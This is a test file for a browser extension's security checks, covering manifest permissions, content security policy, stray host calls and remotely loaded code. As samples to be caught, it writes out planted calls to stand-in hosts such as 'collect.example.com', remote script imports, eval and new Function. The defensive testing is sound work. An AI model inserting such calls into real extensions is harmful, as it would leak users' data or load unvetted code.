import { describe, expect, test } from 'vitest';
import { checkHosts, checkManifest, checkPages, checkRemoteCode, type Manifest } from './checks/manifest.ts';

const good: Manifest = {
  manifest_version: 3,
  permissions: ['storage', 'alarms', 'identity', 'sidePanel'],
  host_permissions: ['https://api.hubapi.com/*', 'https://quickbooks.api.intuit.com/*'],
  optional_host_permissions: ['https://*/*'],
  content_scripts: [{ matches: ['https://*.hubspot.com/*'], js: ['content.js'] }],
  web_accessible_resources: [{ matches: ['https://*.hubspot.com/*'], resources: ['card.html'] }],
  content_security_policy: { extension_pages: "script-src 'self' 'wasm-unsafe-eval'; object-src 'self'" },
};
const policy = (extension_pages: string) => ({ content_security_policy: { extension_pages } });
const file = (text: string) => [{ path: 'a.js', text }];

describe('checks of a built extension', () => {
  test('a manifest that keeps to the two services passes', () => {
    expect(checkManifest(good)).toEqual([]);
  });

  test('a manifest that reaches further is caught [B-09]', () => {
    const breaches: Partial<Manifest>[] = [
      { manifest_version: 2 },
      { host_permissions: ['<all_urls>'] },
      { host_permissions: ['https://*/*'] },
      { host_permissions: ['http://api.hubapi.com/*'] },
      { host_permissions: ['https://collect.example.com/*'] },
      { host_permissions: ['https://nothubspot.com/*'] },
      { host_permissions: ['https://hubspot.com.example.org/*'] },
      { optional_host_permissions: ['http://*/*'] },
      { permissions: ['https://example.com/*'] },
      { content_scripts: [{ matches: ['https://*/*'] }] },
      { web_accessible_resources: [{ resources: ['card.html'] }] },
      { externally_connectable: { matches: ['https://app.hubspot.com/*'] } },
      policy("script-src 'self' 'unsafe-eval'; object-src 'self'"),
      policy("script-src 'self' https://cdn.example.com; object-src 'self'"),
      policy("script-src 'self'"),
      policy("object-src 'self'"),
      policy(''),
    ];
    for (const breach of breaches) {
      expect(checkManifest({ ...good, ...breach }), JSON.stringify(breach)).not.toEqual([]);
    }
  });

  test('a planted call to another host is caught [B-09]', () => {
    const planted = [
      'fetch("https://collect.example.com/x")',
      'new WebSocket("wss://example.com")',
      'fetch("http:\\/\\/example.com")',
    ];
    for (const text of planted) expect(checkHosts(file(text)), text).toHaveLength(1);
    const known =
      'fetch("https://api.hubapi.com/x"); "http://www.w3.org/2000/svg"; "https://app-eu1.hubspot.com"';
    expect(checkHosts(file(known))).toEqual([]);
  });

  test('code or markup from outside is caught', () => {
    const pages = [
      '<script src="https://cdn.example.com/a.js"></script>',
      '<link href="//cdn.example.com/a.css">',
      '<script>go()</script>',
      '<button onclick="go()">',
    ];
    for (const text of pages) expect(checkPages(file(text)), text).not.toEqual([]);
    expect(checkPages(file('<script type="module" src="/card.js"></script><link href="/a.css">'))).toEqual(
      [],
    );
    const scripts = ['import("https://example.com/a.js")', 'new Function("x")', 'eval(text)'];
    for (const text of scripts) expect(checkRemoteCode(file(text)), text).toHaveLength(1);
    expect(checkRemoteCode(file('retrieval(x); import("./a.js")'))).toEqual([]);
  });
});
